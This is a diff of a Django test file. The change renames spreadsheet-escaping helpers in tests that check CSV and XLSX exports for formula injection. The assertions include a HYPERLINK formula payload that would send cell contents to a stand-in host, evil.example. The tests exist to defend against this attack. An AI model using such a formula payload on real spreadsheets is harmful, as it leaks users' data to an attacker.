@@ -13,9 +13,9 @@ import pytest
 import tablib
 
 from comparisons.models import Dimension, Entry
-from comparisons.transfer.spreadsheets import escape_cell, unescape_cell
+from comparisons.transfer.spreadsheets import escape_value, unescape_value
 from tests.admin_import import confirm, confirm_form, export, upload_file
-from tests.conftest import make_comparison
+from tests.factories import make_comparison
 
 pytestmark = pytest.mark.django_db
 
@@ -37,7 +37,7 @@ TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 def hostile(db, settings):
     """A published table whose every text field starts with a formula (one row per payload)."""
     settings.SITE_URL = "https://kb.example.org"
-    comparison = make_comparison(rows=len(FORMULAE) + 1)
+    comparison = make_comparison(dimensions=len(FORMULAE) + 1)
     payloads = [*FORMULAE, QUOTED]
     for dimension, payload in zip(Dimension.objects.order_by("position"), payloads, strict=True):
         Dimension.objects.filter(pk=dimension.pk).update(
@@ -58,7 +58,7 @@ def _texts():
     }
 
 
-def _assert_no_cell_starts_a_formula(cells):
+def _assert_no_value_starts_a_formula(cells):
     cells = [cell for cell in cells if isinstance(cell, str)]
     assert cells
     for cell in cells:
@@ -67,16 +67,16 @@ def _assert_no_cell_starts_a_formula(cells):
 
 def test_a_formula_cell_gets_an_apostrophe_and_loses_it_again():
     for payload in [*FORMULAE, QUOTED]:
-        assert escape_cell(payload) == "'" + payload
-        assert unescape_cell(escape_cell(payload)) == payload
-    assert escape_cell("Plain text, = inside") == "Plain text, = inside"
-    assert escape_cell(3) == 3
+        assert escape_value(payload) == "'" + payload
+        assert unescape_value(escape_value(payload)) == payload
+    assert escape_value("Plain text, = inside") == "Plain text, = inside"
+    assert escape_value(3) == 3
 
 
 def test_the_public_csv_export_has_no_formula(client, hostile):
     body = client.get("/compare/b2b-vs-b2c/export.csv").content.decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(body, newline="")))
-    _assert_no_cell_starts_a_formula([cell for row in rows for cell in row])
+    _assert_no_value_starts_a_formula([cell for row in rows for cell in row])
     titles = [row[0] for row in rows[1:]]
     assert titles == ["'" + payload for payload in [*FORMULAE, QUOTED]]
 
@@ -84,7 +84,7 @@ def test_the_public_csv_export_has_no_formula(client, hostile):
 def test_the_admin_csv_export_has_no_formula(editor_client, hostile):
     body = export(editor_client, "csv").decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(body, newline="")))
-    _assert_no_cell_starts_a_formula([cell for row in rows[1:] for cell in row])
+    _assert_no_value_starts_a_formula([cell for row in rows[1:] for cell in row])
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in rows[1]
 
 
@@ -94,7 +94,7 @@ def test_the_admin_xlsx_export_has_no_live_formula(editor_client, hostile):
     assert [cell for cell in cells if cell.data_type == "f"] == []
     values = [cell.value for cell in cells]
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in values
-    _assert_no_cell_starts_a_formula(values)
+    _assert_no_value_starts_a_formula(values)
 
 
 def test_the_admin_json_export_keeps_the_text_as_it_is(editor_client, hostile):
